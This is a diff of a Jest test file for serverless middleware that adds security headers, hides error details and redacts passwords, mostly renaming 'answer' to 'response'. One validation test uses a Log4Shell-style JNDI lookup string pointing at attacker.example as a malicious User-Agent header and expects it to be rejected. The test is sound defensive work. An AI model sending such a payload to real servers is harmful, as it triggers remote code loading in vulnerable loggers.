@@ -39,9 +39,9 @@ describe('applySecurityHeaders', () => {
     { headers: { 'X-FRAME-OPTIONS': 'SAMEORIGIN' } },
     { multiValueHeaders: { 'x-Frame-Options': ['SAMEORIGIN'] } },
   ])("leaves the handler's own header: %j", (own) => {
-    const answer = applySecurityHeaders<HttpResponse>({ statusCode: 200, ...own });
-    expect(answer.headers).not.toHaveProperty('X-Frame-Options', 'DENY');
-    expect(answer).toMatchObject(own);
+    const response = applySecurityHeaders<HttpResponse>({ statusCode: 200, ...own });
+    expect(response.headers).not.toHaveProperty('X-Frame-Options', 'DENY');
+    expect(response).toMatchObject(own);
   });
 
   test('changes nothing that the handler owns', () => {
@@ -60,7 +60,7 @@ describe('applySecurityHeaders', () => {
 });
 
 describe('withSecurityHeaders', () => {
-  test('adds headers to the answers of async and plain handlers', async () => {
+  test('adds headers to the responses of async and plain handlers', async () => {
     const asynchronous = withSecurityHeaders(async (_: APIGatewayProxyEvent) => ({ statusCode: 200, body: 'a' }));
     const plain = withSecurityHeaders((_: APIGatewayProxyEvent) => ({ statusCode: 200, body: 'b' }));
     expect((await asynchronous(v1, context) as HttpResponse).headers).toMatchObject(SECURITY_HEADERS);
@@ -72,13 +72,13 @@ describe('withSecurityHeaders', () => {
     expect(withSecurityHeaders(wrapped)).toBe(wrapped);
   });
 
-  test('answers an error once, with 500, the headers and the request id, and nothing of it', async () => {
+  test('responds to an error once, with 500, the headers and the request id, and nothing of it', async () => {
     const handler = withSecurityHeaders(async (_: APIGatewayProxyEvent): Promise<HttpResponse> => {
       throw new Error('password is hunter2');
     });
-    const answer = await handler(v1, context);
-    expect(answer).toMatchObject({ statusCode: 500, headers: SECURITY_HEADERS });
-    expect(JSON.parse(answer.body!)).toEqual({ message: 'Internal Server Error', requestId: 'request-1' });
+    const response = await handler(v1, context);
+    expect(response).toMatchObject({ statusCode: 500, headers: SECURITY_HEADERS });
+    expect(JSON.parse(response.body!)).toEqual({ message: 'Internal Server Error', requestId: 'request-1' });
     expect(logged).toHaveBeenCalledTimes(1);
   });
 
@@ -88,28 +88,28 @@ describe('withSecurityHeaders', () => {
     expect(logged).not.toHaveBeenCalled();
   });
 
-  test('validate answers a suspicious request with 400 before the handler runs', async () => {
+  test('validate rejects a suspicious request with 400 before the handler runs', async () => {
     const warned = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
     const inner = jest.fn(async () => ({ statusCode: 200 }));
     const handler = withSecurityHeaders(inner, { validate: true });
     const attack = { ...v1, headers: { 'User-Agent': '${jndi:ldap://attacker.example/a}' } };
     expect(await handler(attack as never, context as never)).toMatchObject({ statusCode: 400, headers: { 'X-Frame-Options': 'DENY' } });
     expect(inner).not.toHaveBeenCalled();
-    expect(warned).toHaveBeenCalledWith('{"message":"Request refused","violations":[{"header":"user-agent","rule":"log4shell"}]}');
+    expect(warned).toHaveBeenCalledWith('{"message":"Request rejected","violations":[{"header":"user-agent","rule":"log4shell"}]}');
     warned.mockRestore();
     expect(await handler({ ...v1, headers: { 'User-Agent': 'curl/8.5.0' } } as never, context as never)).toMatchObject({ statusCode: 200 });
   });
 
   test('sanitize redacts JSON bodies, and leaves other ones as they are', async () => {
-    const answer = async (response: HttpResponse) => (await withSecurityHeaders(async () => response, { sanitize: true })({},
+    const bodyOf = async (response: HttpResponse) => (await withSecurityHeaders(async () => response, { sanitize: true })({},
       context)).body;
-    expect(await answer({ statusCode: 200, body: '{"user":"a","password":"b"}' })).toBe('{"user":"a","password":"[REDACTED]"}');
-    expect(await answer({ statusCode: 200, body: 'password=b' })).toBe('password=b');
-    expect(await answer({
+    expect(await bodyOf({ statusCode: 200, body: '{"user":"a","password":"b"}' })).toBe('{"user":"a","password":"[REDACTED]"}');
+    expect(await bodyOf({ statusCode: 200, body: 'password=b' })).toBe('password=b');
+    expect(await bodyOf({
       statusCode: 200,
       body: 'eyJwYXNzd29yZCI6ImIifQ==',
       isBase64Encoded: true,
     })).toBe('eyJwYXNzd29yZCI6IltSRURBQ1RFRF0ifQ==');
-    expect(await answer({ statusCode: 200, body: '{"id": 12345678901234567890}' })).toBe('{"id": 12345678901234567890}');
+    expect(await bodyOf({ statusCode: 200, body: '{"id": 12345678901234567890}' })).toBe('{"id": 12345678901234567890}');
   });
 });
